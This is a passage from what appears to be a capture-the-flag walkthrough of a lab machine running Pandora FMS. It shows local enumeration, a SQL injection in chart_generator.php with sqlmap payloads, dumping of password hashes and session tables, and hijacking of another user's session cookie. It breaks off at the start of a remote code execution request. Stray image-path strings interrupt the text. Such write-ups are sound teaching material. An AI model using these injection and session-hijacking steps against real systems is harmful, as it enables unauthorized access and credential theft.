drwx--- 2 daniel daniel 4096 Dec  7 14:32 .sshThere’s another user with a home directory, matt, and that has user.txt, but daniel can’t read it:

daniel@pandora:/home$ ls
daniel  matt
daniel@pandora:/home$ ls matt/
daniel@pandora:/home$ cat matt/user.txt
cat: matt/user.txt: Permission denied

Web Server Configs

Apache site configurations are in /etc/apache2/sites-enabled. In this case, there are two:

daniel@pandora:/etc/apache2/sites-enabled$ ls000-default.conf  pandora.conf

000-default.conf looks like a standard webserver, listening on 80, and hosting outof /var/www/html:

daniel@pandora:/etc/apache2/sites-enabled$ cat 000-default.conf | grep -Pv "^\s*#" | grep .
<VirtualHost *:80>
        ServerAdmin webmaster@localhost
        DocumentRoot /var/www/html
        ErrorLog ${APACHE_LOG_DIR}/error.log
        CustomLog ${APACHE_LOG_DIR}/access.log combined

pandora.conf is a bit more interesting:

daniel@pandora:/etc/apache2/sites-enabled$ cat pandora.conf | grep -Pv "^\s*#" | grep .
<VirtualHost localhost:80>
  ServerAdmin admin@panda.htb
  ServerName pandora.panda.htb
  DocumentRoot /var/www/pandora
  AssignUserID matt matt
  <Directory /var/www/pandora>
    AllowOverride All
  ErrorLog /var/log/apache2/error.log
  CustomLog /var/log/apache2/access.log combined

It’s only listening on localhost, and under the server name pandora.panda.htb. It’s hosted out of /var/www/pandora, and running as matt.

pandora.panda.htb Files

matt owns the pandora folder, but any user can navigate into it and read:

daniel@pandora:/var/www$ ls -l
total 8
drwxr-xr-x 3 root root 4096 Dec  7 14:32 html
drwxr-xr-x 3 matt matt 4096 Dec  7 14:32 pandoraThere are no writable places by daniel in pandora:

daniel@pandora:/var/www$ find pandora/ -writable

There’s a include/config.php file, but I can’t read it:

daniel@pandora:/var/www/pandora/pandora_console$ cat include/config.php
cat: include/config.php: Permission denied
daniel@pandora:/var/www/pandora/pandora_console$ ls -l include/config.php
-rw--- 1 matt matt 413 Dec  3 14:06 include/config.php

Pandora FMS

I’ll reconnect my SSH session with -L 9001:localhost:80 so that 9001 on my local machine now forwards to localhost port 80 on Pandora.

I’ll set pandora.panda.htb to in my /etc/hosts file (turns out just accessing it by works as well), and visithttp://pandora.panda.htb:9001. It’s a Pandora FMS instance with a login page:

image-20220518203724639Click for full size image

At the bottom, there’s a version,v7.0NG.742_FIX_PERL2020.



Googling for exploits against Pandora FMS leads to this PortSwigger post, which outlines a few CVEs found in late 2020 in version 742, which matches what I noted above.

This page on Pandora’s site lists the CVEs in it’s software and the versions that they were fixed in. There are seven fixed in 732.

This post mentions four of those, a SQL injection (CVE-2021-32099), a phar deserialization (CVE-2021-32098), a remote file inclusion (CVE-202132100), and a cross-site request forgery (no CVE), and goes into aton of detail about the SQL injection.

The injections is in /include/chart_generator.php. It passes $_REQUEST['session_id'] to the constructor for a PandoraFMS\User object, and that is not sanitized.

UNION Injection POC

What’s neat about $_REQUEST is that it will try to pull from GET, POST, and cookies. I played with this a good amount in Beyond Root for OpenKeyS. I suspect the intended use here it to get the cookie, but to make it easier to attack, I can put my attack in a GET parameter (in the URL).

/include/chart_generator.php returns a 404, but I’ll notice that visiting / redirects to /pandora_console. /pandora_console/include/chart_generator.php returns a denial:


I’ll add ?session_id=' to the end, and it returns an SQL error:

image-20220519105847430Click for full size imageThis is vulnerable to a UNION injection. If I try session_id=' union select 1;-- -, it complains about the number of columns being wrong:

image-20220519110142054Click for full size image

Increasing the number of columns in the union, at session_id=' union select 1,2,3;-- - it works:



I’ll point sqlmap at this and it finds UNION injection but decides it can’t exploit it. It does find boolean, error-based, and time-based injections:

oxdf@hacky$ sqlmap -u 'http://pandora.panda.htb:9001/pandora_console/include/chart_generator.php?session_id=1'
sqlmap identified the following injection point(s) with a total of 334 HTTP(s) requests:
Parameter: session_id (GET)
    Type: boolean-based blind
    Title: MySQL RLIKE boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause
    Payload: session_id=1' RLIKE (SELECT (CASE WHEN (9034=9034) THEN 1 ELSE 0x28 END))-- dJJc

    Type: error-based
    Title: MySQL >= 5.0 OR error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (FLOOR)
    Payload: session_id=1' OR (SELECT 1447 FROM(SELECT COUNT(*),CONCAT(0x716b627671,(SELECT (ELT(1447=1447,1))),0x716a787671,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)-- wMuR

    Type: time-based blind
    Title: MySQL >= 5.0.12 AND time-based blind (query SLEEP)
    Payload: session_id=1' AND (SELECT 9955 FROM (SELECT(SLEEP(5)))lBOL)-- GqOs
[15:03:59] [INFO] the back-end DBMS is MySQL
back-end DBMS: MySQL >= 5.0 (MariaDB fork)

--dbs shows two databases:available databases [2]:
[*] information_schema
[*] pandora

-D pandora --tables shows 178 (!) tables:

Database: pandora
[178 tables]
| taddress                           |
| taddress_agent                     |
| tagent_access                      |
| tagent_custom_data                 |
|tagent_custom_fields               |
| tagent_custom_fields_filter        |

Session as matt

Password Fails

Looking though the table names, there’s one called tpassword_history, which I’ll dump with -D pandora -T tpassword_history --dump:

Database: pandora
Table: tpassword_history
[2 entries]
| id_pass | id_user | date_end            | password                         | date_begin          |
| 1       | matt    | 0000-00-00 00:00:00 | f655f807365b6dc602b31ab3d6d43acc | 2021-06-11 17:28:54 |
| 2       | daniel  | 0000-00-00 00:00:00 | 76323c174bd49ffbbdedf678f6cc89a6 | 2021-06-17 00:11:54 |

These look like MD5 hashes, but neither cracks in CrackStation.

Another table that jumps out is treset_password, but it’s empty, and I can’t find a way to trigger a reset.

Dump SessionsLooking through the table names, it looks like the PHP sessions could be stored in tsessions_php. I’ll dump it with -D pandora -T tsessions_php --dump --where "data<>''":

Database: pandora
Table: tsessions_php
[20 entries]
| id_session                 | data                                                | last_active |
| 09vao3q1dikuoi1vhcvhcjjbc6 | id_usuario|s:6:"daniel";                            | 1638783555  |
| 346uqacafar8pipuppubqet7ut | id_usuario|s:6:"daniel";                            | 1638540332  |
| 4nsbidcmgfoh1gilpv8p5hpi2s | id_usuario|s:6:"daniel";                            | 1638535373  |
| 5i352tsdh7vlohth30ve4o0air | id_usuario|s:6:"daniel";                            | 1638281946  |
| 69gbnjrc2q42e8aqahb1l2s68n | id_usuario|s:6:"daniel";                            | 1641195617  |
| 8m2e6h8gmphj79r9pq497vpdre | id_usuario|s:6:"daniel";                            | 1638446321  |
| 9vv4godmdam3vsq8pu78b52em9 | id_usuario|s:6:"daniel";                            | 1638881787  |
| agfdiriggbt86ep71uvm1jbo3f | id_usuario|s:6:"daniel";                            | 1638881664  |
| f0qisbrojp785v1dmm8cu1vkaj |id_usuario|s:6:"daniel";                            | 1641200284  |
| g0kteepqaj1oep6u7msp0u38kv | id_usuario|s:6:"daniel";                            | 1638783230  |
| g4e01qdgk36mfdh90hvcc54umq | id_usuario|s:4:"matt";alert_msg|a:0:{}new_chat|b:0; | 1638796349  |
| hsftvg6j5m3vcmut6ln6ig8b0f | id_usuario|s:6:"daniel";                            | 1638168492  |
| j6cbj3ng5243q6ikad06ad65bp | id_usuario|s:6:"daniel";                            | 1652903458  |
| jecd4v8f6mlcgn4634ndfl74rd | id_usuario|s:6:"daniel";                            | 1638456173  |
| o3kuq4m5t5mqv01iur63e1di58 | id_usuario|s:6:"daniel";                            | 1638540482  |
| oi2r6rjq9v99qt8q9heu3nulon | id_usuario|s:6:"daniel";                            | 1637667827  |
| pjp312be5p56vke9dnbqmnqeot | id_usuario|s:6:"daniel";                            | 1638168416  |
| rgku3s5dj4mbr85tiefv53tdoa | id_usuario|s:6:"daniel";                            | 1638889082  |
| u5ktk2bt6ghb7s51lka5qou4r4 | id_usuario|s:6:"daniel";                            | 1638547193  |
| u74bvn6gop4rl21ds325q80j0e |id_usuario|s:6:"daniel";                            | 1638793297  |

There are a few hundred rows that have session ids but no user associated with them, which is why I ignore those with the --where.

I don’t totally understand why daniel has so many sessions, but there’s also one for matt.

Fuzz Sessions

To quickly test these sessions, I’ll drop all 20 into a file, and run wfuzz:

oxdf@hacky$ wfuzz -u http://pandora.panda.htb:9001/pandora_console/ -b PHPSESSID=FUZZ -w sessions
* Wfuzz 2.4.5 - The Web Fuzzer                         *

Target: http://pandora.panda.htb:9001/pandora_console/
Total requests: 20

ID           Response   Lines    Word     Chars       Payload000000002:   200        247 L    665 W    14153 Ch    "346uqacafar8pipuppubqet7ut"
000000004:   200        247 L    665 W    14153 Ch    "5i352tsdh7vlohth30ve4o0air"
000000009:   200        247 L    665 W    14153 Ch    "f0qisbrojp785v1dmm8cu1vkaj"
000000003:   200        247 L    665 W    14153 Ch    "4nsbidcmgfoh1gilpv8p5hpi2s"
000000007:   200        247 L    665 W    14153 Ch    "9vv4godmdam3vsq8pu78b52em9"
000000008:   200        247 L    665 W    14153 Ch    "agfdiriggbt86ep71uvm1jbo3f"
000000010:   200        247 L    665 W    14153 Ch    "g0kteepqaj1oep6u7msp0u38kv"
000000005:   200        247 L    665 W    14153 Ch    "69gbnjrc2q42e8aqahb1l2s68n"
000000001:   200        247 L    665 W    14153 Ch    "09vao3q1dikuoi1vhcvhcjjbc6"
000000006:   200        247 L    665 W    14153 Ch"8m2e6h8gmphj79r9pq497vpdre"
000000013:   200        247 L    665 W    14153 Ch    "j6cbj3ng5243q6ikad06ad65bp"
000000012:   200        247 L    665 W    14153 Ch    "hsftvg6j5m3vcmut6ln6ig8b0f"
000000015:   200        247 L    665 W    14153 Ch    "o3kuq4m5t5mqv01iur63e1di58"
000000014:   200        247 L    665 W    14153 Ch    "jecd4v8f6mlcgn4634ndfl74rd"
000000016:   200        247 L    665 W    14153 Ch"oi2r6rjq9v99qt8q9heu3nulon"
000000011:   200        1393 L   4720 W   76805 Ch    "g4e01qdgk36mfdh90hvcc54umq"
000000019:   200        247 L    665 W    14153 Ch    "u5ktk2bt6ghb7s51lka5qou4r4"
000000017:   200        247 L    665 W    14153 Ch    "pjp312be5p56vke9dnbqmnqeot"
000000018:   200        247 L    665 W    14153 Ch    "rgku3s5dj4mbr85tiefv53tdoa"
000000020:   200        247 L    665 W    14153 Ch    "u74bvn6gop4rl21ds325q80j0e"

Total time: 0.794442
Processed Requests: 20
Filtered Requests: 0
Requests/sec.: 25.17489

One returns a much longer page! It just so happens to be the one assigned to matt.

User Session

I’ll go into the Firefox dev tools and under “Storage” > “Cookies” find the PHPSESSID cookie and replaceit with the one from above. Now when I refresh /pandora_console, it loads logged in as matt:

image-20220519133326752Click for full size image

There’s not a ton in here that I can do that’s interesting

Path Split

There’s at least two unique ways to get from this access to RCE through Pandora. One is as Matt, exploiting CVE-2020-13851 to get execution. The other is to escalate to admin within Pandora FMS, and then upload a webshell.

RCE #1: CVE-2020-13851

This advisory from coresecurity give nice detail about RCE via the ajax.php file. In the left-side menu, clicking “Events” > “View events” generates a similar POST request:POST /pandora_console/ajax.php HTTP/1.1
Host: pandora.panda.htb:9001
User-Agent: Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:100.0) Gecko/20100101 Firefox/100.0
Accept: application/json, text/javascript, */*; q=0.01
Accept-Language: en-US,en;q=0.5
Accept-Encoding: gzip, deflate
